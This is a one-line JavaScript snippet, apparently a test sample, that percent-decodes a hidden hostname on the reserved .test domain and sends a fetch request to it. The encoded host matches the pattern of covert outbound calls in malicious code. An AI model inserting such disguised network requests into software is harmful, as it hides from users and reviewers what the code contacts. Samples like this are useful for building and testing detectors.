var h=decodeURIComponent("percent%2eshop%2etest");fetch("https://"+h+"/v1");
